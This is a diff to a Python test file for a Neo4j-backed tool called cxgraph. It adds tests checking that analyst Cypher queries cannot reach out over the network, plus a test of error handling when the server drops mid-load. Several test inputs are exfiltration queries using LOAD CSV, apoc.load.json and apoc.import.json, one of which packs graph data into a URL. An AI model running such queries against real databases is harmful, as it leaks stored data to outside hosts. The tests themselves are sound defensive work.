@@ -19,12 +19,13 @@ from pathlib import Path
 import httpx
 import pytest
 from bolt_proxy import BoltProxy
-from graph_helpers import counts
+from graph_helpers import V1, counts, workspace_with
 from test_api import A, make_v1, record_stage_runs
 
 from cxgraph.api import create_app
 from cxgraph.api.auth import TokenStore
 from cxgraph.api.params import ApiParams
+from cxgraph.config import Neo4jParams
 from cxgraph.errors import CxgraphError
 from cxgraph.graph import GraphStore
 from cxgraph.graph.loader import load_snapshot
@@ -113,8 +114,9 @@ class Listener:
     "\"LOAD CSV FROM 'http://127.0.0.1:{port}/y' AS r RETURN r\", {{}}) AS x",
     "CALL apoc.cypher.run(\"LOAD CSV FROM 'http://127.0.0.1:{port}/z' AS r RETURN r\", {{}}) "
     "YIELD value RETURN value",
+    "CALL apoc.import.json('http://127.0.0.1:{port}/import.json')",
 ], ids=["load-csv-exfil", "load-csv-graph-data", "load-csv-own-api", "apoc.load.json",
-        "apoc.load.csv", "apoc.cypher function", "apoc.cypher.run"])
+        "apoc.load.csv", "apoc.cypher function", "apoc.cypher.run", "apoc.import.json"])
 def test_analyst_cypher_cannot_reach_out(api, template):
     """Issue 14, exfiltration: a read token's LOAD CSV / apoc.load reached a local listener
     (and the API's own /health). Now refused and the listener receives nothing."""
@@ -127,6 +129,33 @@ def test_analyst_cypher_cannot_reach_out(api, template):
         assert r.json()["code"] in ("READ_ONLY", "CYPHER_ERROR")
     finally:
         listener.close()
+
+
+@pytest.mark.parametrize("template", [
+    "MATCH (n:Neuron) WITH collect(n.type) AS t "
+    "LOAD CSV FROM 'http://127.0.0.1:{port}/exfil?d=' + apoc.text.join(t, '-') AS r RETURN r",
+    "CALL apoc.load.json('http://127.0.0.1:{port}/x') YIELD value RETURN value",
+    "CALL apoc.import.json('http://127.0.0.1:{port}/import.json')",
+], ids=["load-csv-graph-data", "apoc.load.json", "apoc.import.json"])
+def test_cxgraph_cypher_cannot_reach_out(api, monkeypatch, capsys, template):
+    """Issue 14, exfiltration, the other analyst door: `cxgraph cypher` refuses the same
+    queries with one `error:` line, and the listener receives nothing."""
+    from test_bad_inputs import cli
+
+    _, _, store, ws = api
+    for key, value in (("NEO4J_URI", store.conn.uri), ("NEO4J_USER", store.conn.user),
+                       ("NEO4J_PASSWORD", store.conn.password)):
+        monkeypatch.setenv(key, value)
+    listener = Listener()
+    try:
+        code, err = cli(["cypher", template.format(port=listener.port), "-w", ws.root], capsys)
+        time.sleep(0.3)
+        assert listener.hits == []
+        assert code == 1 and err.startswith("error:") and "Traceback" not in err, err
+    finally:
+        listener.close()
+    assert cli(["cypher", "MATCH (n:Neuron) RETURN count(n) AS n", "-w", ws.root,
+                "-f", "json"], capsys)[0] == 0  # the door itself still opens
 
 
 def test_managed_server_itself_refuses_urls_and_io_procedures(api, neo4j_server):
@@ -142,6 +171,42 @@ def test_managed_server_itself_refuses_urls_and_io_procedures(api, neo4j_server)
         with pytest.raises(CxgraphError):
             store.read(q)
     assert store.read("RETURN apoc.text.join(['a', 'b'], '-') AS j").rows == [["a-b"]]
+
+
+def test_cxgraph_load_with_neo4j_gone_is_one_error_line_and_reload_is_exact(
+        graph, tmp_path, monkeypatch, capsys):
+    """Issue 14, the same case through the command line on the default settings: `cxgraph
+    load` with the server gone mid-load ends in one `error:` line within `[neo4j] retry_s`
+    (not a raw ServiceUnavailable after ~60 s); `cxgraph load` again, the server back,
+    gives exactly the graph of a clean load."""
+    from test_bad_inputs import cli
+
+    ws = workspace_with(tmp_path, V1)
+
+    def via(proxy: BoltProxy) -> None:
+        monkeypatch.setenv("NEO4J_URI", f"bolt://127.0.0.1:{proxy.port}")
+        monkeypatch.setenv("NEO4J_USER", graph.conn.user)
+        monkeypatch.setenv("NEO4J_PASSWORD", graph.conn.password)
+
+    clean = BoltProxy(graph.conn.uri)  # a clean load, to know its size and its graph
+    via(clean)
+    assert cli(["load", "-w", ws.root, "--no-check"], capsys)[0] == 0
+    clean_counts, clean_bytes = counts(graph), clean.sent
+    clean.cut()
+    graph.clear()
+    graph.apply_schema()
+    dying = BoltProxy(graph.conn.uri)
+    dying.cut_after = clean_bytes // 2  # halfway through the load's writes
+    via(dying)
+    t0 = time.perf_counter()
+    code, err = cli(["load", "-w", ws.root, "--no-check"], capsys)
+    took = time.perf_counter() - t0
+    assert code == 1 and err.startswith("error:") and "Traceback" not in err, err
+    assert "stopped answering" in err or "not answering" in err or "unavailable" in err, err
+    assert took < 3 * Neo4jParams().retry_s + 15, took  # default budget, not the driver's 2x30 s
+    monkeypatch.setenv("NEO4J_URI", graph.conn.uri)
+    assert cli(["load", "-w", ws.root, "--no-check"], capsys)[0] == 0
+    assert counts(graph) == clean_counts
 
 
 # --- interference --------------------------------------------------------------------------
